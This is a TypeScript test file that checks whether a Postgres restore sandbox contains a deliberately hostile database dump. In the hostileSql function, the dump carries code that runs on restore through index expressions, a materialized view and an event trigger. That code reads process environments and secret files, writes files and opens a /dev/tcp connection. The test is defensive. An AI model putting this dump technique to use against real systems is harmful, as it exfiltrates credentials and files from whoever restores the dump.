import { existsSync } from 'node:fs';
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Secret } from '../../src/core/secret.ts';
import { openPostgresTarget } from '../../src/engines/postgres/target.ts';
import { moduleUrl, runAs, USERS } from '../support/as-user.ts';
import { serverBinaries, startPostgres, type TestPostgres } from '../support/postgres.ts';
import { clientBinaries } from '../support/postgres-clients.ts';
import { type Dumped, dumpAll, streamsOf } from '../support/postgres-dump.ts';
import { runSql, urlOf } from '../support/postgres-fill.ts';
import { createTargetHost } from '../support/target-host.ts';

/** A dump whose code runs during the restore and exfiltrates what it can reach. */
const KEY_IN_ENVIRONMENT = 'the-recovery-key-in-the-environment';
const KEY_IN_FILE = 'the-recovery-key-in-a-file';

let folder: string;
let source: TestPostgres;
let listener: Server;
let connections = 0;
let dumped: Dumped;
let programs: string;

/** What the code does within the server: as a program, in plpgsql, and in C. */
function hostileSql(secretFile: string, pwnedFile: string, port: number): string {
  const program = `{ echo ran; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; cat ${secretFile}; ls -R ${folder};
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected'; } 2>/dev/null | tr '\\t\\134' '  '`;
  const quoted = program.replaceAll('\n', ' ').replaceAll("'", "''");
  return `
    create table public.loot (way text, line text);
    create function public.c_write(text, text, boolean) returns bigint as '$libdir/adminpack', 'pg_file_write_v1_1' language c;
    create function public.c_read(text) returns text as 'pg_read_file_all' language internal;
    create function public.take(way text) returns int language plpgsql volatile as $f$
    begin
      if current_setting('cluster_name') = 'source' then return 0; end if;
      execute 'copy public.loot (line) from program ''${quoted.replaceAll("'", "''")}''';
      begin
        insert into public.loot (line) values (public.c_read('${secretFile}'));
      exception when others then insert into public.loot (line) values ('c_read: ' || sqlerrm);
      end;
      begin
        perform public.c_write('${pwnedFile}', 'x', false);
        insert into public.loot (line) values ('written');
      exception when others then insert into public.loot (line) values ('c_write: ' || sqlerrm);
      end;
      update public.loot set way = take.way where loot.way is null;
      return 1;
    end $f$;
    create function public.innocent(way text) returns int language plpgsql immutable as $f$ begin return public.take(way); end $f$;
    create function public.spy() returns event_trigger language plpgsql as $f$ begin perform public.take('event trigger'); end $f$;
    create table public.victim (a text);
    insert into public.victim values ('index expression');
    create index on public.victim ((public.innocent(a)));
    create materialized view public.view as select public.take('materialized view') as a;
    create event trigger spy on ddl_command_end execute function public.spy();`;
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-'));
  await chmod(folder, 0o755);
  const secretFile = join(folder, 'secret.txt');
  await writeFile(secretFile, KEY_IN_FILE, { mode: 0o644 });
  listener = createServer((socket) => {
    connections += 1;
    socket.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const { port } = listener.address() as { port: number };
  source = await startPostgres({ major: 15, settings: { cluster_name: 'source' } });
  await runSql(source.url, 'create database hostile');
  await runSql(urlOf(source, 'hostile'), hostileSql(secretFile, join(folder, 'pwned'), port));
  programs = `${serverBinaries(15)}:${await clientBinaries(15)}`;
  const host = await createTargetHost({ PG_BIN: programs });
  dumped = await dumpAll(urlOf(source, 'hostile'), host);
  host.remove();
  await writeFile(join(folder, 'database.dump'), dumped.database, { mode: 0o644 });
  await writeFile(join(folder, 'globals.sql'), dumped.globals, { mode: 0o644 });
  await writeFile(join(folder, 'fingerprint.json'), JSON.stringify(dumped.fingerprint), { mode: 0o644 });
});

afterAll(async () => {
  await source?.stop();
  listener?.close();
  if (folder !== undefined) await rm(folder, { recursive: true, force: true });
});

interface Outcome {
  readonly rows: readonly (readonly [way: string, line: string])[];
  readonly notes: readonly string[];
  readonly workspaceFiles: readonly string[];
  readonly uid: number;
}

const program = (): string => `
import { createReadStream, readdirSync, readFileSync } from 'node:fs';
import { openPostgresTarget } from '${moduleUrl('src/engines/postgres/target.ts')}';
import { createTargetHost } from '${moduleUrl('test/support/target-host.ts')}';
const host = await createTargetHost({ PG_BIN: '${programs}' });
const fingerprint = JSON.parse(readFileSync('${folder}/fingerprint.json', 'utf8'));
const target = await openPostgresTarget({ kind: 'ephemeral', trustSource: false }, { majorVersion: '15', fingerprint, rawBytes: 1e6 }, host);
const streams = ['globals.sql', 'database.dump'].map((name) => ({ name, content: createReadStream('${folder}/' + name) }));
let rows;
try {
  await target.restore(streams);
  ({ rows } = await target.query('select way, line from public.loot', { timeoutMs: 300_000 }));
} finally {
  await target.close();
}
const workspaceFiles = readdirSync(host.folder).filter((name) => !name.startsWith('box-'));
host.remove();
console.log(JSON.stringify({ rows, notes: target.notes, workspaceFiles, uid: process.getuid() }));
`;

describe.each(USERS)('a hostile dump, verified by %s', (user) => {
  test('runs its code and reaches neither environment, files nor network', async () => {
    const before = connections;
    const outcome = (await runAs(user, folder, program(), { DECRYPT_WITH: KEY_IN_ENVIRONMENT })) as Outcome;
    expect(outcome.uid === 0).toBe(user === 'root');
    const said = (way: string): string =>
      outcome.rows
        .filter((row) => row[0] === way)
        .map((row) => row[1])
        .join('\n');
    // The code did run in each way. Otherwise the test would show nothing.
    for (const way of ['index expression', 'materialized view']) {
      expect(said(way)).toContain('ran\n');
      expect(said(way)).toMatch(/c_read: .*No such file/);
      expect(said(way)).toMatch(/c_write: .*(No such file|Permission denied|Read-only)/);
    }
    // Created when nothing is left that could trigger it.
    expect(said('event trigger')).toBe('');
    const everything = JSON.stringify(outcome.rows);
    expect(everything).not.toContain(KEY_IN_ENVIRONMENT);
    expect(everything).not.toContain('DECRYPT_WITH');
    expect(everything).not.toContain(KEY_IN_FILE);
    expect(everything).not.toContain('secret.txt\n');
    expect(everything).not.toContain('connected');
    expect(everything).not.toContain('written');
    expect(connections).toBe(before);
    expect(existsSync(join(folder, 'pwned'))).toBe(false);
    expect(outcome.notes.join()).toContain('Restored as superuser, contained');
    expect(outcome.workspaceFiles).toEqual([]);
  });
});

test('the same code reaches file and network of a server that is not contained', async () => {
  const open = await startPostgres({ major: 15 });
  const host = await createTargetHost({ PG_BIN: programs });
  const before = connections;
  try {
    const spec = { kind: 'scratch', url: new Secret(open.url) } as const;
    const needs = { majorVersion: '15', fingerprint: dumped.fingerprint, rawBytes: 1e6 };
    const target = await openPostgresTarget(spec, needs, host);
    try {
      await target.restore(streamsOf(dumped));
      const { rows } = await target.query('select line from public.loot', { timeoutMs: 300_000 });
      expect(rows.flat().join('\n')).toContain(KEY_IN_FILE);
      expect(connections).toBeGreaterThan(before);
    } finally {
      await target.close();
    }
    expect(await runSql(open.url, "select datname from pg_database where datname like 'restorable%'")).toEqual([]);
  } finally {
    host.remove();
    await open.stop();
    await rm(join(folder, 'pwned'), { force: true });
  }
});

test('without an object that requires it, nothing is restored as superuser', async () => {
  const url = urlOf(source, 'modest');
  await runSql(source.url, 'create database modest');
  await runSql(
    url,
    `create table loot (line text);
     create function take() returns int language plpgsql as $f$ begin
       if current_setting('cluster_name') <> 'source' then copy public.loot from program 'echo ran'; end if; return 1; end $f$;
     create materialized view view as select public.take() as a`,
  );
  const host = await createTargetHost({ PG_BIN: programs });
  try {
    const modest = await dumpAll(url, host);
    const needs = { majorVersion: '15', fingerprint: modest.fingerprint, rawBytes: 1e6 };
    const target = await openPostgresTarget({ kind: 'ephemeral', trustSource: false }, needs, host);
    try {
      await expect(target.restore(streamsOf(modest))).rejects.toMatchObject({
        code: 'RESTORE_FAILED',
        message: expect.stringMatching(
          /permission denied \(SQLSTATE 42501\), at MATERIALIZED VIEW DATA "public\.view"/,
        ),
      });
    } finally {
      await target.close();
    }
  } finally {
    host.remove();
  }
});
